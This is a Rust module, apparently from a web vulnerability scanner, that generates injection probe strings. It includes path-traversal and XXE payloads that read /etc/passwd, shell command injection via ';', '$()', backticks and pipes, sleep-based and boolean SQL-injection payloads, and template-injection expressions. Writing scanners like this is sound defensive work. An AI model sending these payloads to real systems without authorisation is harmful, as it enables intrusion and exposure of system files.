//! Texts that would act where they reach a command line, a template, a page, a file name, a query language or a
//! reader of XML.
//!
//! Each computes or shows something that no plain answer holds; none changes, writes or sends anything.

use super::violations::Mark;

/// Texts for a field with this well-formed value; `left` and `right` are factors nobody else would multiply.
pub(crate) fn canaries(own: &str, (left, right): (u64, u64)) -> Vec<(&'static str, Mark, String)> {
    let number = || Mark::Number((left * right).to_string());
    let tag = format!("<assay-canary-{left}>");
    vec![
        ("quote-canary", Mark::None, format!("{own}'\"`)--")),
        ("markup-canary", Mark::Tag(tag.clone()), format!("{own}\">{tag}")),
        ("template-canary", number(), templates(own, left, right)),
        ("traversal-canary", Mark::Accounts, "../../../../../../etc/passwd".to_owned()),
        ("traversal-canary", Mark::Accounts, "....//....//....//....//....//etc/passwd".to_owned()),
        ("traversal-canary", Mark::Accounts, "/etc/passwd".to_owned()),
        ("command-canary", number(), format!("{own};expr {left} \\* {right};")),
        ("command-canary", number(), format!("{own}$(expr {left} \\* {right})")),
        ("command-canary", number(), format!("{own}`expr {left} \\* {right}`")),
        ("command-canary", number(), format!("{own}|expr {left} \\* {right}")),
    ]
}

/// The few that a field which is no text gets: that it takes a text at all is tried elsewhere.
pub(super) fn few(own: &str, (left, right): (u64, u64)) -> Vec<(&'static str, Mark, String)> {
    let number = || Mark::Number((left * right).to_string());
    vec![
        ("quote-canary", Mark::None, format!("{own}'\"`)--")),
        ("template-canary", number(), templates(own, left, right)),
        ("command-canary", number(), format!("{own}$(expr {left} \\* {right})")),
    ]
}

fn templates(own: &str, left: u64, right: u64) -> String {
    let expression = format!("{left}*{right}");
    format!("{own}{{{{{expression}}}}}${{{expression}}}#{{{expression}}}<%={expression}%>")
}

/// Ways to make a command line or a database wait so many seconds, which shows where nothing else comes back.
pub(super) fn delays(own: &str, seconds: u32) -> Vec<String> {
    vec![
        format!("{own};sleep {seconds};"),
        format!("{own}$(sleep {seconds})"),
        format!("{own}' AND SLEEP({seconds})-- -"),
        format!("{own}';SELECT pg_sleep({seconds})-- -"),
    ]
}

/// A question that a database answers with yes, its counterpart that it answers with no, and a broken one. Where the
/// field is only compared, all three are the same: a name that is not there.
pub(super) fn pairs(own: &str, (left, right): (u64, u64)) -> Vec<[String; 3]> {
    vec![
        [
            format!("{own}' AND '{left}'='{left}"),
            format!("{own}' AND '{left}'='{right}"),
            format!("{own}' AND '{left}'=='='{left}"),
        ],
        [
            format!("{own} AND {left}={left}"),
            format!("{own} AND {left}={right}"),
            format!("{own} AND {left}=)={left}"),
        ],
    ]
}

/// A document type in front of a message, and what stands for its entity: a text in two halves, whose sum is not sent,
/// and the list of accounts.
pub(super) fn entities((left, right): (u64, u64)) -> Vec<(&'static str, Mark, String, &'static str)> {
    let halves = format!("<!DOCTYPE assay [<!ENTITY a \"{left}\"><!ENTITY b \"{right}\">]>");
    let file = "<!DOCTYPE assay [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>".to_owned();
    vec![
        ("entity-inside", Mark::Number(format!("{left}{right}")), halves, "&a;&b;"),
        ("entity-canary", Mark::Accounts, file, "&a;"),
    ]
}
